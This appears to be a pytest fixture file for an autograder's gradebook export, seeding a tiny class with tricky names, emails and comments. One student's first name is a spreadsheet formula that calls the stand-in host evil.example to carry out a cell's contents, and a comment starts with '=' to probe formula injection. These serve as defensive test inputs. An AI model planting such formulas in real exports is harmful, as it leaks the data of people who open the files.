"""A small class in a real gradebook, with what a person typed and names that bite."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from autograder.results import gradebook
from autograder.results.exports.grades import StudentGrade, read
from autograder.results.frame import open_course, open_gradebook

from .. import rows
from ..conftest import LAB, record

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PEOPLE = {
    "student01": {"first_name": "Zoë", "last_name": 'O\'Brien, "Bo"', "email": "zoe@a.example"},
    "student02": {"first_name": EVIL, "last_name": "李", "email": "+li@a.example"},
    "student03": {"first_name": "Never", "last_name": "There", "email": ""},
}


@pytest.fixture
def graded(course: Path) -> Path:
    """Return the tiny course with two submissions; one is late, one has manual points."""
    from nbgrader.api import Student

    wrong = record("student02", double=0.0, halve=1.0)
    wrong.exercises["double"].mistake = "halves"
    wrong.exercises["double"].message = "You halve\nwhere you should double."
    gradebook.save([record("student01"), wrong], LAB, course_dir=course)
    coursedir = open_course(course)
    with open_gradebook(coursedir) as book:
        book.add_student("student03")
        for person in book.db.query(Student):
            for key, value in PEOPLE[person.id].items():
                setattr(person, key, value)
        book.db.commit()
    rows.change(course, f"update grade set manual_score = 2.5, extra_credit = 0.25 where "
                        f"{cell('check_halve')} and {of('student01')}")  # fmt: skip
    rows.change(course, f"update comment set manual_comment = '=2+2, well argued.' where "
                        f"{cell('halve')} and {of('student01')}")  # fmt: skip
    rows.change(course, "update submitted_notebook set late_submission_penalty = 0.5 where id in "
                        f"({notebooks('student02')})")  # fmt: skip
    return course


def cell(name: str) -> str:
    return f"cell_id in (select id from base_cell where name = '{name}')"


def of(student: str) -> str:
    return f"notebook_id in ({notebooks(student)})"


def notebooks(student: str) -> str:
    return ("select n.id from submitted_notebook n join submitted_assignment s on "
            f"s.id = n.assignment_id where s.student_id = '{student}'")  # fmt: skip


def kept() -> dict[str, Any]:
    """Return what the grader kept of the class."""
    wrong = record("student02", double=0.0, halve=1.0)
    wrong.exercises["double"].mistake = "halves"
    wrong.exercises["double"].message = "You halve\nwhere you should double."
    found = [record("student01").to_json(), wrong.to_json()]
    return {"lab": LAB, "revision": "abc", "confinement": "kernel", "submissions": found}


@pytest.fixture
def grades(graded: Path) -> list[StudentGrade]:
    return read(LAB, graded, kept())
